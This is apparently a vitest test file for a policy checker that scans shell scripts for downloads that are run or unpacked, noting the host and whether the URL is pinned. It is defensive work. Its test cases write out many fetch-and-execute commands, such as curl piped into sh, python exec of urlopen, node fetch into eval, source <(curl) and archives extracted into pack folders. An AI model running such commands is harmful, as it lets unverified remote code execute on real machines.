/**
 * Code fetched and run (src/policy/fetch-exec.ts), read from a script as
 * shell-words.ts cuts it: over plain http, or over https from a URL that can
 * change (pinned: a commit or digest in the URL, or the saved file checked).
 */
import { describe, expect, it } from 'vitest';
import { fetchedArchives, fetchedRuns } from '../../src/policy/fetch-exec.js';
import { pipelines } from '../../src/policy/shell-words.js';

const hosts = (script: string): string[] => fetchedRuns(pipelines(script)).filter((r) => !r.tls).map((r) => r.host);
const https = (script: string): string[] => fetchedRuns(pipelines(script)).filter((r) => r.tls).map((r) => `${r.host} ${r.pinned ? 'pinned' : 'moving'}`);

describe('http downloads a script runs', () => {
  it.each([
    ['curl piped into sh', 'curl -fsSL http://get.example.net/install.sh | sh', ['get.example.net']],
    ['wget to stdout into bash -s', 'wget -qO- http://get.example.net/i | bash -s -- --yes', ['get.example.net']],
    ['into python3', 'curl -s http://10.1.2.3:8080/x.py | python3', ['10.1.2.3']],
    ['saved with -o, then run by sh', 'curl -o /tmp/i.sh http://get.example.net/i.sh && sh /tmp/i.sh', ['get.example.net']],
    ['saved by wget, then run as ./', 'cd /tmp; wget http://get.example.net/tool.sh; chmod +x tool.sh; ./tool.sh', ['get.example.net']],
    ['redirected to a file, then run', 'curl http://get.example.net/i > /tmp/i; bash /tmp/i', ['get.example.net']],
    ['over https', 'curl -fsSL https://get.example.net/install.sh | sh', []],
    ['http fetched to a file no one runs', 'curl -fsS http://config-server/st2.conf -o /extra/zz.conf', []],
    ['http piped into a reader, not a shell', 'curl http://get.example.net/notes | grep -q ok', []],
    ['sh running its own script after a download', 'curl -o /tmp/data.json http://api.example.net/d; sh /opt/run.sh', []],
  ] as const)('%s', (_name, script, expected) => {
    expect(hosts(script)).toEqual(expected);
  });
});

describe('https downloads a script runs, and whether they can change', () => {
  it.each([
    ['a branch piped into sh', 'curl -fsSL https://raw.githubusercontent.com/acme-ops/st2-bootstrap/main/install.sh | sh', ['raw.githubusercontent.com moving']],
    ['a release URL piped into bash', 'curl -sSL https://get.example.net/v1.2.3/install.sh | bash', ['get.example.net moving']],
    ['a commit in the URL', 'curl -fsSL https://raw.githubusercontent.com/acme/tools/0123456789abcdef0123456789abcdef01234567/install.sh | sh', ['raw.githubusercontent.com pinned']],
    ['saved, checked with sha256sum -c, then run', 'curl -fsSLo /tmp/i.sh https://get.example.net/i.sh && echo "$SUM  /tmp/i.sh" | sha256sum -c - && sh /tmp/i.sh', ['get.example.net pinned']],
    ['saved and run unchecked', 'wget -O /tmp/i.sh https://get.example.net/i.sh; sh /tmp/i.sh', ['get.example.net moving']],
    ['fetched, not run', 'curl -fsSL https://get.example.net/notes.txt -o /tmp/notes.txt', []],
  ] as const)('%s', (_name, script, expected) => {
    expect(https(script)).toEqual(expected);
  });
});

/** The fourteenth red team's forms (src/policy/fetch-eval.ts): the download run without a pipe or a file. */
const runs = (script: string): string[] => fetchedRuns(pipelines(script), script).map((r) => `${r.program} ${r.host} ${r.tls ? (r.pinned ? 'pinned' : 'moving') : 'http'}`);

describe('downloads an interpreter or a substitution runs', () => {
  const GIST = 'https://gist.githubusercontent.com/x/abc/raw';
  it.each([
    ['python exec of urlopen', `python3 -c "exec(__import__('urllib.request').request.urlopen('${GIST}/p.py').read())"`, ['python3 gist.githubusercontent.com moving']],
    ['st2 python exec of requests', `/opt/stackstorm/st2/bin/python -c "import requests; exec(requests.get('${GIST}/p.py').text)"`, ['python gist.githubusercontent.com moving']],
    ['node fetch then eval', `node -e "fetch('${GIST}/p.js').then(r=>r.text()).then(eval)"`, ['node gist.githubusercontent.com moving']],
    ['perl eval of HTTP::Tiny', `perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get("${GIST}/p.pl")->{content}'`, ['perl gist.githubusercontent.com moving']],
    ['python printing into sh', `python3 -c "import urllib.request as u;print(u.urlopen('${GIST}/s.sh').read().decode())" | sh`, ['python3 gist.githubusercontent.com moving']],
    ['bash -c of $(curl)', 'bash -c "$(curl -fsSL https://raw.githubusercontent.com/x/y/main/setup.sh)"', ['bash raw.githubusercontent.com moving']],
    ['eval of backquoted wget', 'eval "`wget -qO- http://get.example.net/a.sh`"', ['eval get.example.net http']],
    ['source <(curl)', 'set -e; source <(curl -fsSL https://raw.githubusercontent.com/x/y/main/env.sh)', ['source raw.githubusercontent.com moving']],
    ['. <(wget -qO-)', '. <(wget -qO- https://get.example.net/env.sh)', ['. get.example.net moving']],
    ['bash <(curl) with args', 'bash <(curl -s https://get.example.net/i.sh) --yes', ['bash get.example.net moving']],
    ['a commit in the URL', `python3 -c "exec(__import__('urllib.request').request.urlopen('https://raw.githubusercontent.com/a/b/0123456789abcdef0123456789abcdef01234567/p.py').read())"`, ['python3 raw.githubusercontent.com pinned']],
    ['a digest checked before exec', `python3 -c "import hashlib,urllib.request as u; b=u.urlopen('${GIST}/p.py').read(); assert hashlib.sha256(b).hexdigest()=='ab'; exec(b)"`, ['python3 gist.githubusercontent.com pinned']],
    // Look-alikes: nothing runs the download.
    ['python printing a download to the log', `python3 -c "import requests; print(requests.get('http://st2api:9101/api/v1/').status_code)"`, []],
    ['bash -c of a mounted script', 'bash -c "$(cat /scripts/x.sh)"', []],
    ['echo of $(curl)', 'echo "$(curl -s https://ifconfig.example.net)"', []],
    ['bash -c with $(curl) as an argument', 'bash -c "echo $(curl -s https://ifconfig.example.net)"', []],
    ['$(curl -o file)', 'bash -c "$(curl -fsSL -o /tmp/x https://get.example.net/x)"', []],
    ['diff <(curl)', 'diff <(curl -s https://get.example.net/a) /etc/a', []],
    ['python saving a download', `python3 -c "import urllib.request as u; u.urlretrieve('${GIST}/data.json', '/tmp/d.json')"`, []],
  ] as const)('%s', (_name, script, expected) => {
    expect(runs(script)).toEqual(expected);
  });
});

describe('downloads a script unpacks (pack trees: ST2-SEC-024 judges where they land)', () => {
  const archives = (script: string): string[] => fetchedArchives(pipelines(script)).map((r) => `${r.host} ${r.pinned ? 'pinned' : 'moving'}`);
  it.each([
    ['wget piped into tar', 'wget -qO- https://dl.example.net/p.tgz | tar xz -C /opt/stackstorm/packs-shared', ['dl.example.net moving']],
    ['saved, then tar xzf', 'wget -q -O /tmp/p.tgz https://dl.example.net/p.tgz && tar xzf /tmp/p.tgz -C /opt/packs', ['dl.example.net moving']],
    ['saved, then tar -C DIR -xzf', 'curl -fsSLo /tmp/p.tgz https://dl.example.net/p.tgz; tar -C /opt/packs -xzf /tmp/p.tgz', ['dl.example.net moving']],
    ['curl -O, then unzip', 'cd /tmp && curl -fsSLO https://dl.example.net/p.zip && unzip -o p.zip -d /opt/packs', ['dl.example.net moving']],
    ['tar --extract --file=', 'curl -o /tmp/p.tar https://dl.example.net/p.tar && tar --extract --file=/tmp/p.tar', ['dl.example.net moving']],
    ['the hash checked first', 'wget -O /tmp/p.tgz https://dl.example.net/p.tgz && echo "$SUM  /tmp/p.tgz" | sha256sum -c - && tar xzf /tmp/p.tgz', ['dl.example.net pinned']],
    ['a digest in the URL', 'curl -fsSL https://dl.example.net/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.tgz | tar xz', ['dl.example.net pinned']],
    ['tar creating, not extracting', 'curl -o /tmp/p.tgz https://dl.example.net/p.tgz; tar czf /backup/p.tgz /tmp/p.tgz', []],
    ['an archive no download wrote', 'curl -o /tmp/a.json https://dl.example.net/a.json; tar xzf /opt/image/p.tgz', []],
    // The tarfile and zipfile modules' command lines extract as tar and unzip do (`-e ARCHIVE [DIR]`).
    ['python -m tarfile -e', 'curl -fsSo /tmp/p.tgz https://dl.example.net/p.tgz && python3 -m tarfile -e /tmp/p.tgz /opt/stackstorm/packs-shared', ['dl.example.net moving']],
    ['python -m zipfile --extract', 'wget -qO /tmp/p.zip https://dl.example.net/p.zip; /usr/bin/python3.8 -m zipfile --extract /tmp/p.zip /opt/packs', ['dl.example.net moving']],
    ['python -m tarfile -l only lists', 'curl -fsSo /tmp/p.tgz https://dl.example.net/p.tgz && python3 -m tarfile -l /tmp/p.tgz', []],
    ['bsdtar -x reading a saved file on standard input', 'curl -fsSo /tmp/p.tgz https://dl.example.net/p.tgz && bsdtar -x -C /opt/packs < /tmp/p.tgz', ['dl.example.net moving']],
    ['bsdtar -xf', 'curl -fsSo /tmp/p.tgz https://dl.example.net/p.tgz && bsdtar -xpf /tmp/p.tgz -C /opt/packs', ['dl.example.net moving']],
    ['curl piped into bsdtar -x', 'curl -fsSL https://dl.example.net/p.tgz | bsdtar -xC /opt/packs', ['dl.example.net moving']],
    ['python -m tarfile -e of a checked download', 'curl -fsSo /tmp/p.tgz https://dl.example.net/p.tgz && sha256sum -c /tmp/p.sha256 && python3 -m tarfile -e /tmp/p.tgz /opt/packs', ['dl.example.net pinned']],
  ] as const)('%s', (_name, script, expected) => {
    expect(archives(script)).toEqual(expected);
  });
});
